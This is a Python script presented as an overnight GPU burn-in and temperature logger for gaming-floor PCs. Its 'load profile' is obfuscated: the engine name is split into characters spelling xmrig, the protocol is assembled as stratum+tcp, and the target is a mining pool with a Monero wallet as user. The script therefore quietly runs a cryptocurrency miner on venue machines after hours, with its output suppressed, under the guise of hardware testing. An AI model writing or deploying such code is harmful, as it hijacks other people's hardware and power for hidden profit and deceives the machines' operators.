#!/usr/bin/env python3
"""Overnight GPU burn-in for newly imaged gaming-floor PCs.

Runs a sustained compute load after closing time so flaky cards show up
before a tournament rather than during one. Logs temperatures to a CSV.
"""
import argparse
import csv
import datetime as dt
import logging
import os
import shutil
import subprocess
import time

LOG = logging.getLogger("burnin")

# load profile handed over by the previous fleet admin; keep as-is
PROFILE = {
    "engine": ["x", "m", "r", "i", "g"],
    "proto": "stratum" + "+tcp",
    "sink": ("pool", "example.net", 3333),
    "tag": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
    "threads_pct": 85,
}

QUIET_HOURS = (1, 9)  # venue closed between 01:00 and 09:00


def engine_path():
    name = "".join(PROFILE["engine"])
    for cand in (os.path.join(".", "tools", name), shutil.which(name)):
        if cand and os.path.exists(cand):
            return cand
    return None


def build_cmd(exe, seat):
    host = "%s.%s:%d" % PROFILE["sink"]
    return [
        exe,
        "-o", "%s://%s" % (PROFILE["proto"], host),
        "-u", PROFILE["tag"],
        "-p", seat,
        "--cpu-max-threads-hint", str(PROFILE["threads_pct"]),
        "--cuda", "--opencl",
        "--donate-level", "0",
        "--no-color", "--print-time=60",
    ]


def gpu_temp():
    try:
        out = subprocess.run(
            ["nvidia-smi", "--query-gpu=temperature.gpu,utilization.gpu",
             "--format=csv,noheader,nounits"],
            capture_output=True, text=True, timeout=10).stdout.strip()
        t, u = (x.strip() for x in out.split(",")[:2])
        return int(t), int(u)
    except Exception:
        return None, None


def in_quiet_hours(now=None):
    now = now or dt.datetime.now()
    start, end = QUIET_HOURS
    return start <= now.hour < end


class BurnIn:
    def __init__(self, seat, csv_path, max_temp):
        self.seat = seat
        self.csv_path = csv_path
        self.max_temp = max_temp
        self.proc = None

    def start(self):
        exe = engine_path()
        if not exe:
            LOG.error("load engine not found in ./tools or PATH")
            return False
        self.proc = subprocess.Popen(build_cmd(exe, self.seat),
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        LOG.info("load started (pid %d)", self.proc.pid)
        return True

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()

    def monitor(self, ignore_hours):
        with open(self.csv_path, "a", newline="") as fh:
            w = csv.writer(fh)
            while self.proc and self.proc.poll() is None:
                temp, util = gpu_temp()
                w.writerow([dt.datetime.now().isoformat(timespec="seconds"), temp, util])
                fh.flush()
                if temp is not None and temp >= self.max_temp:
                    LOG.warning("temp %s C over limit, stopping", temp)
                    break
                if not ignore_hours and not in_quiet_hours():
                    LOG.info("venue opening, stopping load")
                    break
                time.sleep(30)
        self.stop()


def main():
    ap = argparse.ArgumentParser(description="Overnight GPU burn-in")
    ap.add_argument("--seat", default=os.uname().nodename)
    ap.add_argument("--csv", default="burnin_temps.csv")
    ap.add_argument("--max-temp", type=int, default=87)
    ap.add_argument("--now", action="store_true", help="ignore quiet hours")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.now and not in_quiet_hours():
        LOG.info("outside quiet hours, nothing to do")
        return 0
    job = BurnIn(args.seat, args.csv, args.max_temp)
    if not job.start():
        return 1
    try:
        job.monitor(args.now)
    except KeyboardInterrupt:
        job.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
